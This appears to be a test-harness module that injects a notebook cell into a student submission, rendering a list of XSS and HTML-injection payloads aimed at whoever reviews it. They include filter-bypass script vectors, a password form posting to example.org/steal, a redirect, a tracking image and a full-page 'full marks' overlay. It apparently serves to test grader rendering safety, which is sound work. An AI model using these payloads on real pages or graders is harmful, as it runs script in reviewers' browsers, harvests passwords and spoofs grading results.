"""Displays HTML that runs scripts, opens frames, asks for passwords and covers the page."""

FAMILY = "attacks on readers"
NOTEBOOKS = (2,)

VECTORS = r"""
<script>document.title='PWNED'</script>
<scr<script>ipt>document.title='PWNED'</scr</script>ipt>
<img src=x onerror=document.title='PWNED'><img src="x`onerror=document.title='PWNED'`">
<svg onload=document.title='PWNED'><script xlink:href="data:,document.title='PWNED'" /></svg>
<svg><animate onbegin=document.title='PWNED' attributeName=x dur=1s></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title='PWNED'&gt;">
<noscript><p title="</noscript><img src=x onerror=document.title='PWNED'>"></noscript>
<iframe srcdoc="<script>parent.document.title='PWNED'</script>"></iframe>
<iframe src="javascript:parent.document.title='PWNED'"></iframe>
<object data="data:text/html,<script>document.title='PWNED'</script>"></object>
<embed src="data:image/svg+xml,<svg onload=document.title='PWNED'>">
<form action="https://example.org/steal"><input name=password autofocus onfocus=document.title='PWNED'></form>
<body onload=document.title='PWNED'><base href="https://example.org/"><meta http-equiv=refresh content="0;url=https://example.org">
<link rel=stylesheet href="https://example.org/x.css"><style>@import 'https://example.org/x.css';</style>
<details open ontoggle=document.title='PWNED'><video><source onerror=document.title='PWNED'></video>
<a href="javascript:document.title='PWNED'" id=click>a</a><a href=" &#106;avascript:document.title='PWNED'">b</a>
<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">c</a><a href="//example.org" target=_top>d</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://example.org/x)">full marks</div>
<img src="https://example.org/who-reads-this.png"><img src="data:image/svg+xml;base64,PHN2Zy8+">
<template><script>document.title='PWNED'</script></template><x-y is=script>z</x-y>
<textarea><img title="</textarea><img src=x onerror=document.title='PWNED'>"></textarea>
<select><option><style></option></select><img src=x onerror=document.title='PWNED'></style>
<!--><img src=x onerror=document.title='PWNED'>--> <![CDATA[><img src=x onerror=document.title='PWNED'>]]>
<a id=notebook name=title href=#><div id="jquery" class="nbgrader_cell panel">x</div>
"""


def edit(submission):
    submission.own_cell(f"""
from IPython.display import HTML, display
vectors = {VECTORS!r}
display(HTML(vectors))
for line in vectors.splitlines():
    display(HTML(line))
    display(HTML("<b>" * 3000 + line))
""", after="conv_params")
